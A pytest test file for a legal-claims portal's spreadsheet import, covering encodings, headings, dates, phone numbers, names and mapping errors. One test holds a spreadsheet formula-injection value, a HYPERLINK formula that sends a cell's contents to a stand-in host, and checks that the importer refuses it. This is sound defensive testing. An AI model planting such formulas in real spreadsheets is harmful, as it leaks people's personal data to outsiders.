"""Lists as they come: encodings, delimiters, headings, merged cells, formulas, numbers and dates of spreadsheets."""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path

import pytest

from portal.intake.errors import ImportRefused
from portal.intake.mapping import Mapping, read_mapping
from portal.intake.people import Row, Weight, read_row
from portal.intake.tables import Table, open_table
from portal.matters.folder import read_folder, read_matter
from portal.matters.matter import Matter
from tests.conftest import NOW, ROOT
from tests.intake.lists import HEAD, HONG, MAPPING, a_csv, a_mapping, an_xlsx


@pytest.fixture(scope="module")
def matter() -> Matter:
    return read_matter(read_folder(ROOT / "matters/coupang-2025"))


def opened(matter: Matter, file: Path, mapping: str = MAPPING) -> tuple[Table, Mapping]:
    read = read_mapping(a_mapping(file.parent, mapping), matter)
    return open_table(file, read.file, list(read.columns)), read


def read(matter: Matter, file: Path, mapping: str = MAPPING) -> list[Row]:
    table, rules = opened(matter, file, mapping)
    return [read_row(line, rules, NOW.date()) for line in table.lines()]


def only(matter: Matter, file: Path, mapping: str = MAPPING) -> Row:
    (row,) = read(matter, file, mapping)
    return row


def codes(row: Row) -> dict[str, str]:
    return {one.code: one.weight.value for one in row.findings}


def is_hong(row: Row) -> bool:
    assert row.person is not None, row.findings
    held = row.person.particulars
    contacts = {(one.kind, one.value) for one in held.unproved}
    assert contacts == {("email", "hong@example.com"), ("phone", "+821023456789")}
    return bool(held.name and held.name.hangul == "홍길동" and held.birth_date == date(1987, 3, 14))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp949", "utf-16"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_csv_of_any_usual_kind_is_read(
    matter: Matter, tmp_path: Path, encoding: str, delimiter: str
) -> None:
    assert is_hong(only(matter, a_csv(tmp_path, encoding=encoding, delimiter=delimiter)))


def test_a_file_in_no_known_encoding_is_refused_with_its_line(matter: Matter, tmp_path: Path) -> None:
    file = a_csv(tmp_path)
    file.write_bytes(file.read_bytes() + b"\xff\x81\xff,1\r\n")
    with pytest.raises(ImportRefused, match="line 3 is not in the encoding"):
        read(matter, file)


def test_a_binary_that_is_no_list_is_refused(matter: Matter, tmp_path: Path) -> None:
    (tmp_path / "old.xls").write_bytes(b"\xd0\xcf\x11\xe0" + bytes(600))
    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04" + bytes(600))
    for name in ("old.xls", "broken.xlsx"):
        with pytest.raises(ImportRefused):
            read(matter, tmp_path / name)


def test_headings_stand_in_the_third_row_with_other_things_above(matter: Matter, tmp_path: Path) -> None:
    mapping = "[file]\nheader_row = 3\n" + MAPPING
    row = only(matter, a_csv(tmp_path, above=[["쿠팡 소송 명단"], []]), mapping)
    assert (is_hong(row), row.number) == (True, 4)
    assert is_hong(only(matter, an_xlsx(tmp_path, [HONG], above=2), mapping))
    with pytest.raises(ImportRefused, match="header_row"):
        read(matter, tmp_path / "list.xlsx")


def test_headings_meet_whatever_their_blanks_and_line_ends(matter: Matter, tmp_path: Path) -> None:
    assert is_hong(only(matter, a_csv(tmp_path, head=("성 명", "생년\n월일", " 휴대전화 ", "이메일"))))


def test_two_columns_of_one_heading_are_refused(matter: Matter, tmp_path: Path) -> None:
    with pytest.raises(ImportRefused, match="2 columns '이메일'"):
        read(matter, a_csv(tmp_path, [(*HONG, "x")], head=(*HEAD, "이메일")))


def test_three_hundred_columns_and_empty_rows_are_no_trouble(matter: Matter, tmp_path: Path) -> None:
    more = [f"항목 {number}" for number in range(296)]
    rows = [[], [*HONG, *more], ["", "", " ", ""], []]
    file = a_csv(tmp_path, rows, head=(*HEAD, *more))
    assert is_hong(only(matter, file))
    assert opened(matter, file)[0].unused == 296


def test_a_lost_leading_zero_is_put_back_and_told_of(matter: Matter, tmp_path: Path) -> None:
    row = only(matter, an_xlsx(tmp_path, [("홍길동", 31850, 1023456789, "hong@example.com")]))
    assert is_hong(row)  # 31850 is 14 March 1987 in Excel's calendar
    assert codes(row) == {"zero_restored": "note"}


@pytest.mark.parametrize(
    "born",
    ["1987. 3. 14.", "1987년 3월 14일", "1987/03/14", "19870314", "31850", "１９８７-０３-１４"],
)
def test_a_birth_date_is_read_however_it_is_written(matter: Matter, tmp_path: Path, born: str) -> None:
    assert is_hong(only(matter, a_csv(tmp_path, [("홍길동", born, *HONG[2:])])))


def test_cells_that_are_dates_or_numbers_are_read(matter: Matter, tmp_path: Path) -> None:
    for born in (datetime(1987, 3, 14), 19870314, "19870314"):  # noqa: DTZ001 - a cell has no zone
        assert is_hong(only(matter, an_xlsx(tmp_path, [("홍길동", born, *HONG[2:])])))


def test_two_figures_of_a_year_lie_in_the_past(matter: Matter, tmp_path: Path) -> None:
    mapping = MAPPING.replace(
        '"생년월일" = "birth_date"', '"생년월일" = { field = "birth_date", formats = ["%y%m%d"] }'
    )
    rows = [("홍길동", born, *HONG[2:]) for born in ("870314", "540101", "130101")]
    born = [
        one.person.particulars.birth_date
        for one in read(matter, a_csv(tmp_path, rows), mapping)
        if one.person
    ]
    assert born == [date(1987, 3, 14), date(1954, 1, 1), date(1913, 1, 1)]


def test_formulas_are_not_computed_and_text_that_looks_like_one_is_text(
    matter: Matter, tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("http://x.example/?"&A2,"홍길동")'
    row = only(matter, a_csv(tmp_path, [(hostile, *HONG[1:])]))
    assert (row.person, codes(row)) == (None, {"not_a_name": "refused"})
    # A formula that no program has computed yet has no value: there is nothing to read in its cell.
    unread = only(matter, an_xlsx(tmp_path, [("홍길동", "1987-03-14", '="010"&"23456789"', HONG[3])]))
    assert unread.person is not None
    assert [one.kind for one in unread.person.particulars.unproved] == ["email"]


@pytest.mark.parametrize(
    ("name", "field"),
    [
        ("NULL", "passport"),
        ("O'Brien", "passport"),
        ("뷁", "hangul"),
        ("洪吉童", "hanja"),
        ("Ng", "passport"),
    ],
)
def test_unusual_names_are_names(matter: Matter, tmp_path: Path, name: str, field: str) -> None:
    row = only(matter, a_csv(tmp_path, [(name, *HONG[1:])]))
    assert row.person is not None
    assert row.person.particulars.name is not None
    assert getattr(row.person.particulars.name, field) == name


def test_null_is_empty_only_where_the_mapping_says_so(matter: Matter, tmp_path: Path) -> None:
    mapping = '[file]\nempty = ["NULL", "-"]\n' + MAPPING
    row = only(matter, a_csv(tmp_path, [("NULL", "-", *HONG[2:])]), mapping)
    assert row.person is not None
    assert (row.person.particulars.name, row.person.particulars.birth_date) == (None, None)


@pytest.mark.parametrize(
    ("cells", "found"),
    [
        (("홍길동", "870314-1234567", *HONG[2:]), {"resident_number": "refused"}),
        (("홍길동", "1987-02-30", *HONG[2:]), {"bad_date": "left_out"}),
        (("홍길동", "2087-02-03", *HONG[2:]), {"bad_date": "left_out"}),
        (("홍길동", HONG[1], "1.02346E+09", HONG[3]), {"bad_phone": "left_out"}),
        (
            ("홍길동", HONG[1], "1.02346E+09", "hong"),
            {"bad_phone": "left_out", "bad_email": "left_out", "no_contact": "refused"},
        ),
        (("홍길동 Hong", *HONG[1:]), {"not_a_name": "refused"}),
        (("홍\u202e길동", *HONG[1:]), {"unprintable": "refused"}),
        (("#N/A", *HONG[1:]), {"cell_error": "refused"}),
        (("가" * 5_000, *HONG[1:]), {"too_long": "refused"}),
    ],
)  # fmt: skip
def test_what_is_wrong_with_a_cell_is_told_in_its_row(
    matter: Matter, tmp_path: Path, cells: tuple[str, ...], found: dict[str, str]
) -> None:
    row = only(matter, a_csv(tmp_path, [cells]))
    assert codes(row) == found
    assert (row.person is None) == (Weight.REFUSED.value in found.values())


def test_merged_cells_are_told_of_and_not_guessed(matter: Matter, tmp_path: Path) -> None:
    family = [HONG, ("성춘향", "1990-01-02", "", "")]
    first, second = read(matter, an_xlsx(tmp_path, family, merge="D2:D3"))
    assert is_hong(first)
    assert codes(second) == {"merged": "left_out", "no_contact": "refused"}


def test_choices_and_addresses_go_by_the_mapping(matter: Matter, tmp_path: Path) -> None:
    mapping = """
[claim]
answers = { acting = "self" }
[columns]
"name" = "name.passport"
"mail" = "email"
"lives" = { field = "answers.residence", values = { Korea = "kr", USA = "us" } }
"case" = { field = "tracks", values = { A = ["kr-consumer"], B = ["kr-consumer", "us-consumer"] } }
"lang" = "language"
"zip" = "address.postcode"
"street" = "address.line1"
"""
    head = ("name", "mail", "lives", "case", "lang", "zip", "street")
    rows = [
        ("HONG GILDONG", "hong@example.com", "Korea", "B", "en", "4524", "서울특별시 중구 세종대로 110"),
        ("O'BRIEN MARY", "mary@example.com", "Mars", "C", "fr", "10001", "1 Main Street"),
    ]
    first, second = read(matter, a_csv(tmp_path, rows, head=head), mapping)
    assert first.person is not None
    assert (first.person.tracks, first.person.language) == (("kr-consumer", "us-consumer"), "en")
    assert first.person.answers == {"acting": "self", "residence": "kr"}
    assert first.person.particulars.address is not None
    assert first.person.particulars.address.postcode == "04524"
    assert second.person is None
    assert codes(second)["no_tracks"] == "refused"


@pytest.mark.parametrize("page", ["importing.en.md", "importing.ko.md"])
def test_the_documented_mapping_is_one(matter: Matter, tmp_path: Path, page: str) -> None:
    example = (ROOT / "docs" / page).read_text().split("```toml\n")[1].split("```")[0]
    head = ("성명", "생년월일", "휴대전화", "이메일", "거주지", "참여", "우편번호", "주소")
    cells = (
        "홍길동",
        "870314",
        "010-2345-6789",
        "hong@example.com",
        "국내",
        "둘 다",
        "04524",
        "세종대로 110",
    )
    row = only(matter, a_csv(tmp_path, [cells], head=head, above=[["명단"], []]), example)
    assert is_hong(row)
    assert row.findings == ()


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (('"name"', '"nome"'), "no field 'nome'"),
        (('"phone"', '"email"'), "two columns fill email"),
        (("kr-consumer", "fr-consumer"), "no track fr-consumer"),
        (('acting = "self"', 'acting = "cat"'), "no answer cat"),
        (("acting =", "pets ="), "no question 'pets'"),
        (("[claim]", "[claim"), "no TOML file"),
        (('tracks = ["kr-consumer"]', ""), "say the tracks"),
        (('language = "ko"', 'language = "fr"'), "claim.language"),
    ],
)
def test_a_mapping_that_does_not_fit_is_refused_in_words(
    matter: Matter, tmp_path: Path, change: tuple[str, str], reason: str
) -> None:
    with pytest.raises(ImportRefused, match=reason):
        read(matter, a_csv(tmp_path), MAPPING.replace(*change))
